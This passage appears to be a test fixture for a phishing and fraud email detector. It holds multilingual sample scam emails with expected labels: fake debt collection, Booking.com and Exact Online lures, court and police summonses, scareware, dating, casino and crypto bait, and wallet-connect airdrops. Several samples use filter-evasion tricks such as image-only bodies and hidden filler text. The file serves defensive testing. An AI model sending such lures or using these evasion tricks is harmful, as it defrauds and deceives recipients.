      to: 'sanne.dekker@ziggo.nl',
      subject: 'Laatste herinnering: achterstand aflossing studieschuld',
      date: 'Wed, 9 Apr 2025 14:21:07 +0000',
      messageId: '20250409142107.d1f3@duo-aflossing.sbs',
      dkim: ['duo-aflossing.sbs:mail'],
      relay: 'mail.duo-aflossing.sbs [203.0.113.121]',
      auth: { dmarc: 'none' },
      body: plain(
        'Beste Sanne,\n\nU heeft een achterstand van € 246,18 op de aflossing van uw studieschuld. Betaal binnen 3 dagen via iDEAL, anders wordt de vordering overgedragen aan de deurwaarder en komen de kosten voor uw rekening.\n\nBetalen: https://duo-aflossing.sbs/ideal/246-18\n\nDienst Uitvoering Onderwijs',
      ),
    }),
  },
  {
    // Mixed language: Booking.com's English extranet template with Dutch text to a B&B: "a
    // guest's card failed, confirm your payout details".
    name: 'Booking.com-sjabloon in het Engels met Nederlandse tekst aan een B&B: "uitbetaling bevestigen", .cfd',
    lang: 'nl',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Booking.com Partner Hub <noreply@partnerhub-bookings.cfd>',
      to: 'info@bnb-dewilgenhoeve.nl',
      subject: 'Action required: payout details – uitbetaling geblokkeerd',
      date: 'Fri, 18 Jul 2025 17:33:48 +0000',
      messageId: '20250718173348.2e7b@partnerhub-bookings.cfd',
      dkim: ['partnerhub-bookings.cfd:mail'],
      relay: 'mail.partnerhub-bookings.cfd [203.0.113.143]',
      auth: { dmarc: 'none' },
      body: document([
        { heading: 'Action required' },
        'Beste partner, uw uitbetalingen zijn tijdelijk geblokkeerd omdat uw bankgegevens niet zijn geverifieerd. Log in op de Extranet om te voorkomen dat uw accommodatie offline gaat.',
        { button: 'Log in to Extranet', href: 'https://partnerhub-bookings.cfd/extranet/login' },
        { small: 'Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam' },
      ]),
    }),
  },
  {
    // Accounting-software lure: "Exact Online" says the subscription is suspended for an unpaid
    // invoice, pay on a .shop.
    name: 'Exact Online: abonnement opgeschort wegens openstaande factuur, betalen op een .shop',
    lang: 'nl',
    lure: 'account-alert',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Exact Online <facturatie@exact-online-abonnement.shop>',
      to: 'administratie@schildersbedrijf-bos.nl',
      subject: 'Uw Exact Online-abonnement is opgeschort',
      date: 'Mon, 6 Oct 2025 06:58:14 +0000',
      messageId: '20251006065814.a4c6@exact-online-abonnement.shop',
      dkim: ['exact-online-abonnement.shop:mail'],
      relay: 'mail.exact-online-abonnement.shop [203.0.113.16]',
      auth: { dmarc: 'none' },
      body: plain(
        'Geachte klant,\n\nDe factuur voor uw Exact Online-abonnement (€ 94,38) is niet voldaan. Uw administratie is daarom alleen-lezen. Betaal vandaag om weer te kunnen boeken en facturen te versturen: https://exact-online-abonnement.shop/betalen\n\nExact',
      ),
    }),
  },
  {
    // Callback with no link in Dutch: a "bol" order of an iPad for € 899 from a Gmail address,
    // "call us if you did not order this".
    name: 'Nepbestelling van bol van een iPad à € 899 vanaf Gmail, zonder link: "bel ons als u dit niet heeft besteld"',
    lang: 'nl',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'bol Klantenservice <bol.klantenservice.nl@gmail.com>',
      to: 'ria.vermeulen@kpnmail.nl',
      subject: 'Bestelbevestiging 4471208833',
      date: 'Thu, 27 Nov 2025 20:14:36 +0000',
      messageId: 'CAQ2tU5xS8vR3mK1wM9bP6cJ4dH7sY0m_sW5vX@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-ej1-f67.google.com [209.85.218.67]',
      body: plain(
        'Beste klant,\n\nBedankt voor uw bestelling: Apple iPad Pro 13" 256 GB, € 899,00, wordt morgen afgeschreven. Heeft u dit niet besteld? Bel dan direct onze klantenservice op 085 208 4471 om de bestelling te annuleren.\n\nbol',
      ),
    }),
  },
  {
    // Sex-dating persona from a mass-mailing kit: the From field's display name carries an
    // unquoted comma, so it reads as two mailboxes; "she lives near you" and sex in your area.
    name: 'Sex-Dating-Persona aus einem Versand-Kit: "ich sehe, wir wohnen in der Nähe", From mit ungeschütztem Komma',
    lang: 'de',
    lure: 'romance',
    expect: ['fraud'],
    raw: mail({
      from: 'Singles Treff <kontakt@mailversand-direkt.de>',
      fromField: 'Singles Treff, Lena <kontakt@mailversand-direkt.de>',
      to: 'markus.berg@web.de',
      subject: 'Lena (27) hat dir geschrieben',
      date: 'Sat, 8 Nov 2025 22:41:09 +0100',
      messageId: '20251108224109.77ab@mailversand-direkt.de',
      relay: 'mx4.mailversand-direkt.de [203.0.113.71]',
      auth: 'absent',
      body: plain(
        'Hallo,\n\nich sehe, wir wohnen in der Nähe. Hättest du Lust, dich diese Woche zu treffen? Ich habe dir private Fotos freigeschaltet.\n\nTriff dich nur mit Leuten, die Sex in deiner Nähe wollen: https://lena-treff.example.net/chat\n\nAbmelden: https://lena-treff.example.net/abmelden',
      ),
    }),
  },
  {
    // A 24-year-old "looking for a lover", a machine-made sender and a .top link.
    name: 'Dating persona: "I am 24 years old, looking for a lover", click for a date on a .top site',
    lang: 'en',
    lure: 'romance',
    expect: ['fraud'],
    raw: mail({
      from: 'Jessica <qx7vkz2mtp@riverbend-landscaping.com>',
      to: 'paul.wright@outlook.com',
      subject: 'I am 24 years old, looking for a lover',
      date: 'Tue, 14 Oct 2025 03:12:44 +0000',
      messageId: '20251014031244.qx7vkz2mtp@riverbend-landscaping.com',
      relay: 'smtp.riverbend-landscaping.com [203.0.113.88]',
      auth: 'absent',
      body: plain('Hi there, I am 24 years old and so lonely tonight. Click for a date: https://hot-dates-near.top/j24'),
    }),
  },
  {
    // Dutch dating newsletter from a shop's domain with replies to another domain.
    name: 'Datingnieuwsbrief van een webwinkeldomein: "vrouwen in jouw buurt zoeken een sexdate", antwoorden naar een ander domein',
    lang: 'nl',
    lure: 'romance',
    expect: ['fraud'],
    raw: mail({
      from: 'Sanne <nieuws@tuinmeubel-outlet.nl>',
      to: 'kees.dijkstra@ziggo.nl',
      replyTo: 'reply@flirtpost-mail.com',
      subject: 'Heb jij dit weekend tijd?',
      date: 'Fri, 21 Nov 2025 18:05:33 +0100',
      messageId: '20251121180533.5e1f@tuinmeubel-outlet.nl',
      dkim: ['tuinmeubel-outlet.nl:s1'],
      relay: 'mail.tuinmeubel-outlet.nl [203.0.113.45]',
      headers: ['List-Unsubscribe: <https://tuinmeubel-outlet.nl/afmelden?u=8812>'],
      body: document([
        'Hoi! Eenzame vrouwen in jouw buurt zoeken een sexdate. Meld je gratis aan en chat vanavond nog.',
        { button: 'Bekijk profielen', href: 'https://flirtpost-mail.com/profielen' },
        { small: 'Afmelden: https://tuinmeubel-outlet.nl/afmelden?u=8812' },
      ]),
    }),
  },
  {
    // Miracle cure with a fake doctor's endorsement, from a machine-made address, a free-hosting link.
    name: 'Miracle cure: an "8-second morning ritual" that melts belly fat, doctors stunned, free-hosting link',
    lang: 'en',
    lure: 'health',
    expect: ['fraud'],
    raw: mail({
      from: 'Slim Secret <k2x9q7w1v8@b7m2n9q4.com>',
      to: 'donna.price@yahoo.com',
      subject: 'This 8-second morning ritual melts belly fat',
      date: 'Wed, 3 Dec 2025 11:20:00 +0000',
      messageId: '20251203112000.k2x9q7w1v8@b7m2n9q4.com',
      relay: 'mta1.b7m2n9q4.com [203.0.113.140]',
      auth: 'absent',
      body: plain(
        'Doctors are stunned: a retired nurse lost 31 lbs with an 8-second morning ritual, no diet, no gym. Watch the free video before it is taken down: https://slim-ritual-video.web.app/watch',
      ),
    }),
  },
  {
    // Casino bonus from a kit's malformed From on someone else's domain.
    name: 'Casino-Willkommensbonus bis zu 500 € + 150 Freispiele, From mit ungeschütztem Komma',
    lang: 'de',
    lure: 'casino',
    expect: ['fraud'],
    raw: mail({
      from: 'Willkommensbonus <angebote@reisen-vergleich24.de>',
      fromField: 'Willkommensbonus, Casino <angebote@reisen-vergleich24.de>',
      to: 'j.hoffmann@gmx.de',
      subject: 'Ihr Willkommensbonus wartet',
      date: 'Sun, 16 Nov 2025 19:30:12 +0100',
      messageId: '20251116193012.c41d@reisen-vergleich24.de',
      relay: 'out.reisen-vergleich24.de [203.0.113.52]',
      auth: 'absent',
      body: plain(
        'Hallo,\n\nwillkommen im Casino Goldrausch! Ihr Willkommensbonus von bis zu 500 € + 150 Freispiele ist nur einen Klick entfernt: https://goldrausch-bonus.example.org/start\n\nAbmelden: https://goldrausch-bonus.example.org/stop',
      ),
    }),
  },
  {
    // Riches for nothing from a throw-away TLD: a bitcoin millionaires' club.
    name: 'Crypto club: "become a Bitcoin millionaire", guaranteed daily payouts, sender on a throw-away TLD',
    lang: 'en',
    lure: 'crypto',
    expect: ['fraud'],
    raw: mail({
      from: 'Crypto Wealth Club <club@wealth-signal.xyz>',
      to: 'r.patel@gmail.com',
      subject: 'Become a Bitcoin millionaire this year',
      date: 'Mon, 10 Nov 2025 07:45:10 +0000',
      messageId: '20251110074510.77c1@wealth-signal.xyz',
      dkim: ['wealth-signal.xyz:s1'],
      relay: 'mail.wealth-signal.xyz [203.0.113.203]',
      body: plain(
        'Join 40,000 members who let our trading robot work for them. We guarantee daily payouts from your first day. Register free: https://wealth-signal.xyz/join',
      ),
    }),
  },
  {
    // A witness summons from a "courthouse": appear at a video hearing or be brought by force,
    // the "invitation letter" behind a shortened link.
    name: 'Intimação de testemunha do "Fórum Criminal" para audiência por videoconferência, carta atrás de um link encurtado',
    lang: 'pt-BR',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'Fórum Criminal <intimacoes@cartorio-audiencias-digitais.com>',
      to: 'marcos.teixeira@uol.com.br',
      subject: 'Intimação de testemunha – audiência por videoconferência',
      date: 'Tue, 9 Sep 2025 08:14:51 -0300',
      messageId: '20250909111451.7c2e@cartorio-audiencias-digitais.com',
      dkim: ['cartorio-audiencias-digitais.com:mail'],
      relay: 'mail.cartorio-audiencias-digitais.com [203.0.113.61]',
      body: document([
        'CARTA CONVITE / INTIMAÇÃO DE TESTEMUNHA',
        'Vossa Senhoria deve comparecer à audiência por videoconferência designada no processo em anexo. O não comparecimento sem motivo justificado implicará condução coercitiva e multa.',
        { button: 'Abrir a carta de intimação', href: 'https://bit.ly/3intimacaoTest' },
      ]),
    }),
  },
  {
    // An "extrajudicial notification" in the name of the state civil police: the police report
    // against the reader is behind a link on an abused TLD.
    name: 'Notificação extrajudicial da "Polícia Civil": o boletim de ocorrência está num link .top',
    lang: 'pt-BR',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'Central de Intimações <avisos@notifica-processos.net>',
      to: 'juliana.prado@terra.com.br',
      subject: 'Notificação extrajudicial – pedido de explicações',
      date: 'Wed, 4 Sep 2024 01:52:10 -0300',
      messageId: '20240904045210.91ab@notifica-processos.net',
      relay: 'mail.notifica-processos.net [203.0.113.62]',
      body: plain(
        'INTIMAÇÃO ELETRÔNICA\n\nÓrgão: Polícia Civil\nClasse: criminal\nTipo: pedido de explicações\n\nPrezado(a), consta em seu nome um boletim de ocorrência. Para ler o teor completo e evitar as medidas cabíveis, acesse em até 48 horas:\nhttps://consulta-boletim.top/bo/88213\n',
      ),
    }),
  },
  {
    // Scareware in English: "Norton - Anti Virus" says the subscription expired and the computer is
    // at risk, renew at a discount on a site that is not Norton's.
    name: 'Norton - Anti Virus: subscription expired, computer at risk, renew now at 89% off',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Norton - Anti Virus <renewals@device-protect-center.com>',
      to: 'gary.holt@comcast.net',
      subject: 'Your subscription has expired - urgent action required',
      date: 'Thu, 14 Nov 2024 16:02:33 +0000',
      messageId: '20241114160233.3f1d@device-protect-center.com',
      dkim: ['device-protect-center.com:s1'],
      relay: 'mail.device-protect-center.com [203.0.113.63]',
      body: document([
        { heading: 'Your computer is at risk' },
        'Your antivirus subscription expired today. Your protection against viruses has been suspended. Renew now to keep your files safe: a renewal discount of 89% is reserved for you until midnight.',
        { button: 'Renew now', href: 'https://device-protect-center.com/renew?id=184184' },
      ]),
    }),
  },
  {
    // A storage-full lure in Spanish from a throw-away Microsoft 365 tenant whose name a kit made
    // up: act now or the files are deleted, sign in to keep them.
    name: 'Almacenamiento lleno desde un inquilino de Microsoft 365 con nombre aleatorio: "inicia sesión o se eliminarán tus archivos"',
    lang: 'es',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'Almacenamiento completo <renovar@avisos.q7vk2m9xw4tp.onmicrosoft.com>',
      to: 'lucia.ferrer@telefonica.net',
      subject: 'Actúa ahora antes de que se eliminen los archivos de tu unidad',
      date: 'Mon, 12 Feb 2024 09:41:17 +0000',
      messageId: 'PAXP193MB2261E4C1B7A0D95F3C2B8A61D4E2A@PAXP193MB2261.EURP193.PROD.OUTLOOK.COM',
      relay: 'mail-db8eur05on2090.outbound.protection.outlook.com [40.107.20.90]',
      body: plain(
        'Tu unidad de almacenamiento está llena. Si no actúas en 24 horas, se eliminarán tus archivos y fotos. Inicia sesión para verificar tu cuenta y conservarlos.\n\nEquipo de almacenamiento',
      ),
    }),
  },
  // ---------------------------------------------------------------- Picture-only lures hot-linked from image-sharing sites
  {
    // The whole "payment declined" notice drawn in one picture uploaded to Imgur, the picture the
    // button to a page carrying the recipient's address; replies go to a Gmail box. No brand in
    // the sender, no word for a filter to read.
    name: 'Picture-only "payment declined" notice drawn on an Imgur upload, the picture linking to a personalised page, replies to Gmail',
    lang: 'en',
    lure: 'image-only',
    expect: ['phishing'],
    raw: mail({
      from: 'Billing Department <billing@acct-notices-center.com>',
      to: 'martin.kowalski@northfieldplumbing.com',
      replyTo: 'billing.dept.help@gmail.com',
      subject: 'Action needed on your subscription',
      date: 'Wed, 5 Mar 2025 03:41:09 +0000',
      messageId: '20250305034109.77f1c2@acct-notices-center.com',
      dkim: ['acct-notices-center.com:s1'],
      relay: 'mail.acct-notices-center.com [203.0.113.52]',
      body: html(
        '<html><body><center><a href="https://renew-billing-portal.com/u/martin.kowalski@northfieldplumbing.com"><img src="https://i.imgur.com/Rk8vT3q.png" width="600"></a></center></body></html>',
      ),
    }),
  },
  {
    // The same in Spanish, the picture shown by an image button (<input type="image">) rather than
    // an <img>, so that counting pictures misses it, on ImgBB.
    name: 'Aviso de factura pendiente en una sola imagen de ImgBB mostrada como botón de imagen, con el enlace personalizado y respuestas a Gmail',
    lang: 'es',
    lure: 'image-only',
    expect: ['phishing'],
    raw: mail({
      from: 'Departamento de Cobros <avisos@gestion-cobros-online.com>',
      to: 'lucia.ferrer@talleresferrer.es',
      replyTo: 'cobros.atencion.cliente@gmail.com',
      subject: 'Aviso importante sobre su factura',
      date: 'Tue, 11 Mar 2025 05:12:44 +0100',
      messageId: '20250311051244.3a9e@gestion-cobros-online.com',
      dkim: ['gestion-cobros-online.com:s1'],
      relay: 'mail.gestion-cobros-online.com [203.0.113.53]',
      body: html(
        '<html><body><a href="https://pago-facturas-pendientes.com/f/lucia.ferrer@talleresferrer.es"><input type="image" src="//i.ibb.co/7Kp2xQm/aviso.jpg"></a></body></html>',
      ),
    }),
  },
  // Rewards promised in the name of a shop the sender is not (2023–2025 campaigns): a "customer
  // survey" with a gift set, a gift card or voucher "waiting", from a hijacked newsletter domain
  // or a throw-away one, unsigned, the shop named only in the display name, subject or text.
  {
    name: 'Douglas-Kundenumfrage mit Geschenkset von einer fremden Newsletter-Domain',
    lang: 'de',
    lure: 'advance-fee',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Kundenservice <info@news-rabattwelt.example>',
      to: 'sabine.krueger@web.de',
      subject: 'Dies ist Ihre Chance, eine Belohnung zu erhalten',
      date: 'Tue, 12 Nov 2024 09:41:07 +0100',
      messageId: '20241112094107.5c1a@news-rabattwelt.example',
      relay: 'mta4.news-rabattwelt.example [203.0.113.41]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        [
          'Sehr geehrter Douglas-Kunde,',
          'Nehmen Sie an unserer kurzen Umfrage teil und erhalten Sie ein exklusives Geschenkset als Dankeschön.',
          { button: 'Zur Umfrage', href: 'https://kundenumfrage-geschenk.example/d?id=88213' },
          { small: 'Abmelden' },
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    name: 'Your Disney+ one-year gift card is waiting, from an unrelated domain',
    lang: 'en',
    lure: 'advance-fee',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Disney+ Offers <offers@daily-savings-club.example>',
      to: 'mike.turner@outlook.com',
      subject: 'Exciting news: your Disney+ 1-year gift card is waiting!',
      date: 'Sat, 21 Dec 2024 18:02:55 +0000',
      messageId: '20241221180255.77ab@daily-savings-club.example',
      relay: 'smtp.daily-savings-club.example [198.51.100.77]',
      auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
      body: document([
        'Your Disney+ membership gift card is waiting for you. Enjoy a year of magical moments.',
        { button: 'Enjoy now', href: 'https://gift-redeem-now.example/dp?u=4412' },
      ]),
    }),
  },
  {
    name: 'Gagnez un robot cuiseur : participez à notre enquête Cdiscount (domaine sans rapport)',
    lang: 'fr',
    lure: 'advance-fee',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Avis clients <avis@meteo-actus-news.example>',
      to: 'claire.martin@orange.fr',
      subject: 'Gagnez un robot cuiseur – participez à notre enquête Cdiscount dès aujourd’hui !',
      date: 'Thu, 7 Mar 2024 07:15:40 +0100',
      messageId: '20240307071540.9e2f@meteo-actus-news.example',
      relay: 'mx2.meteo-actus-news.example [203.0.113.90]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        ['Ne manquez pas votre chance de gagner un robot cuiseur multifonction !', { button: 'Je participe', href: 'https://enquete-cadeau.example/cd?r=17' }],
        { lang: 'fr' },
      ),
    }),
  },
  {
    name: 'Encuesta de Carrefour con regalo desde un dominio ajeno',
    lang: 'es',
    lure: 'advance-fee',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Atención al cliente <clientes@ofertas-del-dia.example>',
      to: 'lucia.gomez@gmail.com',
      subject: '¡Complete nuestra encuesta de Carrefour y reciba un regalo!',
      date: 'Mon, 3 Jun 2024 11:20:33 +0200',
      messageId: '20240603112033.1b7d@ofertas-del-dia.example',
      relay: 'mail.ofertas-del-dia.example [198.51.100.23]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        [
          'Estimado cliente de Carrefour: ayúdenos a mejorar. Complete nuestra encuesta y reciba un kit de emergencia para el coche.',
          { button: 'Empezar', href: 'https://encuesta-premio.example/c?id=5521' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    name: 'Pesquisa da Magalu com brinde, de um domínio sem relação',
    lang: 'pt-BR',
    lure: 'advance-fee',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Magalu Pesquisa <contato@promo-vantagens.example>',
      to: 'ana.souza@hotmail.com',
      subject: 'Sua opinião vale um brinde',
      date: 'Wed, 17 Jul 2024 14:05:12 -0300',
      messageId: '20240717170512.4c2e@promo-vantagens.example',
      relay: 'mta.promo-vantagens.example [203.0.113.55]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        ['Responda à nossa pesquisa e receba um brinde exclusivo da Magalu.', { button: 'Responder', href: 'https://pesquisa-brinde.example/m?u=902' }],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    name: 'Albert Heijn-cadeaukaart wacht op je, van een vreemd domein',
    lang: 'nl',
    lure: 'advance-fee',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Klantenpanel <panel@voordeel-nieuws.example>',
      to: 'daan.devries@ziggo.nl',
      subject: 'Je Albert Heijn cadeaukaart wacht op je!',
      date: 'Fri, 15 Nov 2024 16:44:01 +0100',
      messageId: '20241115164401.3a9c@voordeel-nieuws.example',
      relay: 'out.voordeel-nieuws.example [198.51.100.140]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        ['Vul onze korte enquête in en ontvang een cadeaukaart van 50 euro.', { button: 'Start', href: 'https://enquete-beloning.example/ah?k=77' }],
        { lang: 'nl' },
      ),
    }),
  },
  {
    // A picture is all the reader sees; a stolen newsletter is hidden beneath it for filters
    // (image_with_hidden_filler).
    name: 'Membership renewal failed: one linked picture over a hidden stolen garden-club newsletter',
    lang: 'en',
    lure: 'image-only',
    expect: ['phishing'],
    raw: mail({
      from: 'Member Rewards <members@offer-centre-uk.com>',
      to: 'dan.hughes@btinternet.com',
      subject: 'Your membership renewal could not be processed',
      date: 'Tue, 4 Mar 2025 19:22:10 +0000',
      messageId: '20250304192210.5f1a@offer-centre-uk.com',
      relay: 'mail.offer-centre-uk.com [203.0.113.88]',
      body: html(
        '<html><body><a href="https://renew-member-billing.com/r/88121"><img src="https://renew-member-billing.com/img/renewal.png" width="600" alt=""></a>' +
          '<div style="display:none">Garden club notes for April: the allotment committee thanks everyone who helped repair the greenhouse roof after the February storms. Seed swap returns on Saturday morning beside the village hall, bring labelled envelopes. Tomatoes should be hardened off gradually; cover courgettes overnight while frosts linger. Our treasurer reminds members that annual subscriptions remain unchanged. Compost deliveries arrive Thursday, please park considerately along Mill Lane. Next month we welcome a speaker on pollinator-friendly borders, wildflower meadows and hedgehog corridors.</div></body></html>',
      ),
    }),
  },
  {
    // A windfall collected by connecting a wallet (windfall_claimed_by_sign_in): no brand named.
    name: 'Token airdrop "reserved for your address": connect and verify your wallet to claim before the deadline',
    lang: 'en',
    lure: 'crypto',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Season 2 Airdrop Team <airdrop@arb-distribution.net>',
      to: 'k.varga@protonmail.com',
      subject: 'Season 2 airdrop: 1,250 tokens allocated to your wallet',
      date: 'Tue, 4 Mar 2025 19:22:10 +0000',
      messageId: '20250304192210.5f1b@arb-distribution.net',
      dkim: ['arb-distribution.net:s1'],
      relay: 'mail.arb-distribution.net [203.0.113.89]',
      body: document([
        'Congratulations! Your address was selected in the Season 2 airdrop and 1,250 tokens (about $1,480) are reserved for you.',
        'To claim your tokens, connect your wallet and verify your wallet before 12 March; unclaimed allocations return to the treasury.',
        { button: 'Claim airdrop', href: 'https://arb-distribution.net/claim' },
      ]),
    }),
  },
];
